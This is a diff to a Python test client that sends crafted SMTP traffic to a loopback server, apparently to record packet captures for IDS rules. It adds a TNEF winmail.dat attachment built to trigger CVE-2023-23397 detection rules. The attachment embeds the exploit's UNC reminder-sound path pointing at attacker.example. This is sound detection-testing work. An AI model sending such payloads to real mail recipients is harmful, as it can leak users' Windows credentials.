@@ -4,7 +4,7 @@
 make-rules-pcaps.sh against the loopback aiosmtpd of aiosmtpd-server.py).
 
     rules-client.py KIND HOST PORT      KIND: attach, headers, helo, bruteforce,
-                                        smuggling, injection, exploits
+                                        smuggling, injection, exploits, tnef
 
 Nothing here is malware: the "executables" are a few harmless bytes that start with
 "MZ" (and a DOS-stub sentence) or with the ELF magic, and the scripts only hold the
@@ -123,6 +123,29 @@ def attach(host, port):
     c.close()
 
 
+def tnef_payload():
+    """A TNEF-like winmail.dat with the message classes the ET Open CVE-2023-23397 rules
+    look for, each at a 3-byte boundary so that its base64 holds the rules' fast
+    patterns, then a UNC path (the reminder sound path of the exploit): bytes only."""
+    def u16(t):
+        return "".join(c + "\0" for c in t).encode("latin-1")
+    pieces = [b"\x78\x9f\x3e\x22", u16("IPM.Task"), b"\0IPM.Task", b"IPM.Microsoft Mail.Note",
+              u16("IPM.Microsoft Mail.Note"), b"\0" + u16("IPM.Task"),
+              b"\\\\attacker.example\\sound.wav\0"]
+    out = b""
+    for p in pieces:
+        out += p + b" " * (-len(p) % 3)
+    return out
+
+
+def tnef(host, port):
+    c = start(host, port)
+    send_message(c, mime("Meeting reminder", [
+        attachment('filename="winmail.dat"', "application/ms-tnef", tnef_payload())], "rules-tnef"))
+    c.cmd("QUIT")
+    c.close()
+
+
 def headers(host, port):
     c = start(host, port)
     send_message(c, plain("Newsletter", "rules-xm1", "X-Mailer: Atomic Mail Sender 9.10\r\n"))
@@ -192,7 +215,8 @@ def exploits(host, port):
 
 
 KINDS = {k: globals()[k] for k in
-         ("attach", "headers", "helo", "bruteforce", "smuggling", "injection", "exploits")}
+         ("attach", "headers", "helo", "bruteforce", "smuggling", "injection", "exploits",
+          "tnef")}
 
 if __name__ == "__main__":
     if len(sys.argv) != 4 or sys.argv[1] not in KINDS or sys.argv[2] not in ("127.0.0.1", "::1"):
